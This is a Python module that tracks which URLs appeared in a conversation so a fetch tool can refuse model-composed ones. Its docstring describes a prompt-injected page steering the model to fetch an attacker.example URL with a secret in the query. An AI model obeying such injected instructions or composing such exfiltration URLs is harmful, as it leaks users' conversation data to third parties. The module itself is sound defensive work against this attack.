"""URL provenance: the URLs that appeared in a conversation, so a tool can refuse any other.

A prompt-injected page can tell the model to fetch ``https://attacker.example/?q=<secret>``: a URL the
model composed, carrying conversation data out in its query. A URL that the user wrote, that a search
returned or that a page the model read linked to was not composed by the model, so it carries nothing
the model added. ``ConversationUrls`` records those; ``web_fetch`` refuses the rest.

What counts as having appeared: the text the host observes (the user's messages), and the successful
output of every tool call (search results, the part of a page the model was shown and its links).
Error outputs never count: they may echo the model's own input back. The model's own messages never
count either: they are exactly what an injected page steers.
"""
from __future__ import annotations

import re
import threading
from collections.abc import Iterable, Mapping
from typing import Any

from webtools.net import InvalidURL, read_url

#: An http(s) URL in running text, up to whitespace or a character no URL holds unescaped.
_URL = re.compile(r"""https?://[^\s<>"'`\\^{}|]+""", re.I)
#: Characters that end a sentence or close Markdown around a URL rather than belong to it.
_TRAILING = ".,;:!?)]*_'\"»”’"
#: A conversation's record stays bounded: a turn that reads a hundred link-heavy pages is far below.
MAX_URLS = 100_000


def canonical(url: str) -> str | None:
    """``url`` in its canonical form (``webtools.net.read_url``, the form the guarded client connects
    to and every other check takes), or None when it cannot be fetched at all.

    Case of scheme and host, IDNA, default port, dot segments, escaping and the fragment do not
    matter; the path and query do, so ``?d=secret`` appended to an address makes another address.
    """
    try:
        return str(read_url(url))
    except InvalidURL:
        return None


def urls_in(text: str) -> set[str]:
    """The canonical forms of the http(s) URLs in ``text``.

    A URL followed by punctuation (``see https://a.example/x.``) or closing Markdown
    (``[a](https://a.example/x)``) is recorded with and without it: both spellings were in the text.
    """
    found: set[str] = set()
    for match in _URL.finditer(text):
        candidate = match.group(0)
        while candidate:
            form = canonical(candidate)
            if form:
                found.add(form)
            if candidate[-1] not in _TRAILING:
                break
            candidate = candidate[:-1]
    return found


class ConversationUrls:
    """The canonical forms of the URLs that appeared in one conversation (thread-safe)."""

    def __init__(self, texts: Iterable[str] = ()) -> None:
        self._urls: set[str] = set()
        self._lock = threading.Lock()
        for text in texts:
            self.observe(text)

    def observe(self, text: str) -> None:
        """Record the URLs in ``text``: a message the user wrote, or text a tool returned."""
        if isinstance(text, str) and text:
            self._add(urls_in(text))

    def observe_output(self, output: Any) -> None:
        """Record the URLs in a tool's output: every string in it, at any depth."""
        for text in _strings(output):
            self.observe(text)

    def _add(self, urls: set[str]) -> None:
        with self._lock:
            room = MAX_URLS - len(self._urls)
            if room <= 0:
                return
            self._urls.update(list(urls)[:room] if len(urls) > room else urls)

    def __contains__(self, url: object) -> bool:
        form = canonical(url) if isinstance(url, str) else None
        with self._lock:
            return form is not None and form in self._urls

    def __len__(self) -> int:
        return len(self._urls)


def _strings(value: Any) -> Iterable[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from _strings(item)
